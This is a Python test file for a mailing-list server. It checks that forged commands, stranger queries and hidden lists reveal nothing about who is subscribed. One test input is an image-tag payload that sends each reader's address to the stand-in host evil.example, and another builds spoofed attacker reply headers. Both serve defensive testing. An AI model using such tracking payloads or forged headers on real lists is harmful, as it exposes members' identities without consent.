"""Who is on a list: a forger who names somebody learns nothing, whether that one is on it or not.

What he sees is what leaves to addresses that are his, and how the door answers; the person named
may be told of it, once each time, whoever he is.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from stage import DOMAIN
from threats_rig import EVE, JOE, OLGA, Attack, recipients

from listserv_py.mail.mailbox import parse_mailbox

COMMANDS = [
    *(
        "SIGNOFF TEST-L",
        "SIGNOFF *",
        "SET TEST-L NOMAIL",
        "SET TEST-L NONSENSE",
        "QUERY TEST-L",
        "QUERY *",
    ),
    *(
        "SUBSCRIBE TEST-L Joe Doe",
        "SUBSCRIBE TEST-L Joe WITH NOHTML",
        "CONFIRM TEST-L",
        "REVIEW TEST-L",
    ),
    *(
        "SCAN TEST-L joe",
        "CHANGE TEST-L eve@example.com",
        "CHANGE * eve@example.com",
        "REGISTER Joe",
    ),
    *(
        "STATS TEST-L",
        "GET TEST-L",
        "GETPOST TEST-L 1",
        "INDEX TEST-L",
        "LISTS",
        "PW ADD Sesame-Open-1",
    ),
    *(
        "SIGNOFF TEST-L PW=guess",
        "SUBSCRIBE BYOWNER-L Joe",
        "SUBSCRIBE CLOSED-L Joe",
        "SIGNOFF HIDDEN-L",
    ),
    *(
        "OK C0DE0000000000FF",
        "SERVE jim@example.net",
        "ADD TEST-L eve@example.com",
        "HELP",
        "NONSENSE",
    ),
    *("TRACE <0@client.example>", "WHY <0@client.example>"),
]
DOORS = ["test-l-subscribe-request", "test-l-signoff-request", "test-l-request", "owner-test-l"]


def attacked(tmp_path: Path, *, member: bool) -> Attack:
    folder = tmp_path / f"member-{member}"
    folder.mkdir()
    made = Attack(folder)
    people = [f"{JOE} | Joe Doe"] if member else []
    for name, sets in (
        ("BYOWNER-L", ["Subscription= By_Owner"]),
        ("CLOSED-L", ["Subscription= Closed"]),
        ("HIDDEN-L", ["Confidential= Yes"]),
        ("PUBLIC-L", ["Send= Public"]),
    ):
        made.stage.create(name, {"set": sets, "subscribers": people})
    if not member:
        for _, own in made.stage.tx.subscribers.of(parse_mailbox(JOE)):
            made.stage.tx.subscribers.remove(own)
    return made


def others(mails: list[bytes]) -> list[bytes]:
    """What goes to anybody but him whose name was used, and the owners, who know who is on it."""
    return [VARYING.sub(b"", mail) for mail in mails if recipients(mail) not in ([JOE], [OLGA])]


VARYING = re.compile(rb"(?m)^(?:Message-ID|In-Reply-To|References): .*$")


@pytest.fixture
def both(tmp_path: Path) -> Iterator[tuple[Attack, Attack]]:
    """Two servers that differ in one thing: whether Joe is on the lists."""
    made = attacked(tmp_path, member=True), attacked(tmp_path, member=False)
    yield made
    for one in made:
        one.close()


def test_a_command_in_somebodys_name(both: tuple[Attack, Attack]) -> None:
    """To others the same; to him one mail each, so that not even their number tells."""
    more = f"Reply-To: {EVE}\r\nCc: {EVE}\r\nSender: {EVE}\r\nReturn-Receipt-To: {EVE}\r\n"
    for attack in both:
        attack.mail(EVE, "Hello", to=f"public-l@{DOMAIN}")
    for command in COMMANDS:
        seen, counts = [], []
        for attack in both:
            attack.forget()
            mails = attack.mail(JOE, command, more=more)
            seen.append(others(mails))
            counts.append(sum(recipients(mail) == [JOE] for mail in mails))
        assert seen[0] == seen[1] == [], command
        assert counts == [1, 1], command


@pytest.mark.parametrize("door", DOORS)
def test_a_mail_to_another_address_of_the_list(both: tuple[Attack, Attack], door: str) -> None:
    seen, counts = [], []
    for attack in both:
        mails = attack.mail(JOE, "", to=f"{door}@{DOMAIN}", more=f"Reply-To: {EVE}\r\n")
        seen.append(others(mails))
        counts.append(sum(recipients(mail) == [JOE] for mail in mails))
    assert seen[0] == seen[1]
    assert counts[0] == counts[1] <= 1


ABOUT = [
    "REVIEW {}",
    "QUERY {} FOR joe@example.net",
    "SCAN {} joe",
    "STATS {}",
    "SIGNOFF {} joe@x.y",
]


@pytest.mark.parametrize("listname", ["TEST-L", "HIDDEN-L", "NO-SUCH-L", "CLOSED-L"])
def test_a_stranger_asks_about_somebody(both: tuple[Attack, Attack], listname: str) -> None:
    """In his own name: the same words whoever is on the list."""
    for line in ABOUT:
        seen = []
        for attack in both:
            attack.forget()
            mails = attack.mail(EVE, line.format(listname))
            assert [recipients(mail) for mail in mails] == [[EVE]]
            seen.append([VARYING.sub(b"", mail) for mail in mails])
        assert seen[0] == seen[1]


def test_a_hidden_list_is_one_that_there_is_not(both: tuple[Attack, Attack]) -> None:
    attack, _ = both
    for line in ("REVIEW {}", "INFO {}", "SIGNOFF {}", "QUERY {}", "ADD {} a@b.example", "GET {}"):
        attack.forget()
        [hidden] = attack.mail(EVE, line.format("HIDDEN-L"))
        [unknown] = attack.mail(EVE, line.format("HIDDEX-L"))
        assert VARYING.sub(b"", hidden).replace(b"HIDDEN", b"HIDDEX") == VARYING.sub(b"", unknown)


def test_a_post_in_somebodys_name_tells_its_forger_nothing(both: tuple[Attack, Attack]) -> None:
    """Whether a member's post went out is seen on the list, by those who may read it."""
    for attack in both:
        mails = attack.mail(JOE, "Hello", to=f"test-l@{DOMAIN}", more=f"Reply-To: {EVE}\r\n")
        assert [mail for mail in mails if recipients(mail) in ([EVE], [OLGA])] == []


@pytest.mark.parametrize(
    "mark", ["&*TO;", '<img src="https://evil.example/?&*URLENC(*TO);">', "&*NAME;"]
)
def test_only_staff_fill_in_what_they_write(tmp_path: Path, mark: str) -> None:
    """A mark in a link or picture would tell a post's author who reads the list."""
    attack = Attack(tmp_path)
    sets = ["Send= Public", "Mail-Merge= Yes"]
    attack.stage.create("MERGE-L", {"set": sets, "subscribers": [f"{JOE} | Joe Doe"]})
    merge = {"to": f"merge-l@{DOMAIN}"}
    for sender, asked in ((JOE, OLGA), (EVE, OLGA), (OLGA, OLGA)):
        attack.forget()
        mails = attack.mail(sender, f"Look {sender}: {mark}", **merge)
        kinds = [(mail.partition(b"]")[0][1:], recipients(mail)) for mail in mails]
        wanted = b"confirmation" if sender == OLGA else b"approval"
        assert (wanted, [asked]) in kinds
        assert attack.copies() == []
    attack.mail(OLGA, f"OK C0DE{attack.stage.codes:012X}", told={"reverse_path": OLGA})
    assert len(attack.copies()) == 1
    attack.mail(JOE, "Nothing of the kind", **merge)
    assert len(attack.copies()) == 2
    attack.close()
